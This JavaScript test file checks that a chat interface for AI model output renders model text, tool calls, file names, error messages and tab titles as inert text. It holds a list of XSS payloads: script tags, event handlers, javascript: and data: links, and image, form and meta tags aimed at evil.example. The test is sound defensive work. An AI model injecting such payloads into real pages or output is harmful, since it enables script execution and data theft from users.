// What a model, a tool or a file says is text. None of it runs, loads from elsewhere, or leads where it
// should not.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import test, { after } from 'node:test';
import { Siskin } from '../fixture.mjs';
import { call, Provider, refuse, say, text, thinking } from '../provider.mjs';
import { ask, log, paired, quit, rested } from './page.mjs';

after(quit);

const EVIL = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '<svg onload="window.__pwned=3"></svg>',
  '<svg><script>window.__pwned=4</script></svg>',
  '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
  '[a](javascript:window.__pwned=6)',
  '[b](java\nscript:window.__pwned=7)',
  '[c](JaVaScRiPt:window.__pwned=8)',
  '[d](&#106;avascript:window.__pwned=9)',
  '[e](data:text/html,<script>parent.__pwned=10</script>)',
  '[f](vbscript:x)',
  '[g](  javascript:window.__pwned=11 )',
  '<javascript:window.__pwned=12>',
  '![h](https://evil.example/?q=secret)',
  '![i](javascript:window.__pwned=13)',
  '![j](//evil.example/x.png)',
  '<a href="javascript:window.__pwned=14">k</a>',
  '<form action="https://evil.example"><input name=q autofocus></form>',
  '```"><script>window.__pwned=15</script>\ncode\n```',
  '```x onclick=window.__pwned=16\ncode\n```',
  '| a |\n|---|\n| <img src=x onerror=window.__pwned=17> |',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '[l]: javascript:window.__pwned=18\n[l]',
  '`<b onmouseover=1>`',
  '<math><mtext><img src=x onerror=window.__pwned=19></mtext></math>',
  '[m](https://good.example/?a=1&b=2 "t\\"><img src=x>")',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'https://good.example/<script>window.__pwned=20</script>',
  '[n](mailto:a@b.example)',
];

const NAME = '<img src=x onerror=window.__pwned=30>.txt';

test('no text of a model, a tool, a file name or an error runs or loads anything', async (t) => {
  const provider = await Provider.start();
  t.after(() => provider.stop());
  const siskin = await Siskin.start(t, { provider, pair: false });
  const page = await paired(t, siskin);
  fs.writeFileSync(path.join(siskin.workdir, NAME), EVIL.join('\n'));
  provider.answers = [
    say(
      [
        thinking(...EVIL.map((one) => `${one}\n\n`)),
        text(...EVIL.flatMap((one) => [...`${one}\n\n`.match(/[\s\S]{1,7}/g)])),
        call('read_file', { path: NAME }),
        call('list_files', { path: '.' }),
        call('no_tool', { x: EVIL[0] }),
      ],
      { split: 500 },
    ),
    say([text(EVIL.join('\n\n'))]),
    refuse(400, { error: { message: EVIL.join(' ').slice(0, 3000) } }),
  ];
  await ask(page, EVIL.join('\n'));
  await rested(page, 30_000);
  await log(page).evaluate((node) =>
    node.querySelectorAll('[aria-expanded=false]').forEach((one) => one.click()),
  );
  await ask(page, 'again');
  await log(page).locator('.item.error').last().waitFor();
  const found = await page.evaluate(() => ({
    links: [...document.querySelectorAll('#log a[href]')].map((a) => [a.protocol, a.rel, a.target]),
    foreign: [
      ...document.querySelectorAll(
        '#log :is(script, iframe, object, embed, form, style, link, base, meta, input, ' +
          'math, video, audio)',
      ),
    ].map((node) => node.outerHTML.slice(0, 100)),
    images: [...document.querySelectorAll('#log img')].map((image) => image.src),
    handlers: [...document.querySelectorAll('#log *')]
      .flatMap((node) => [...node.attributes])
      .filter((attribute) => /^on/.test(attribute.name))
      .map((attribute) => attribute.value),
    text: document.querySelector('#log').innerText,
  }));
  assert.deepEqual(found.foreign, []);
  assert.deepEqual(found.images, []);
  assert.deepEqual(found.handlers, []);
  assert.ok(found.links.length >= 2, 'honest links are links');
  for (const [protocol, rel, target] of found.links) {
    assert.match(protocol, /^(https?|mailto):$/);
    if (protocol !== 'mailto:') {
      assert.match(rel, /noopener/);
      assert.equal(target, '_blank');
    }
  }
  assert.ok(found.text.includes('<img src=x onerror'), 'it is shown as the text that it is');
  await page.reload();
  await log(page).locator('.item.error').last().waitFor();
});

test('a title is text, too', async (t) => {
  const siskin = await Siskin.start(t, { demo: true });
  await siskin.newTab({ title: '<img src=x onerror=window.__pwned=40>' });
  const { code } = (await siskin.api('POST', '/api/pair/code')).json;
  const page = await paired(t, siskin, { link: `${siskin.url}/#pair=${code}` });
  await page.getByText('<img src=x onerror=window.__pwned=40>').first().waitFor();
});
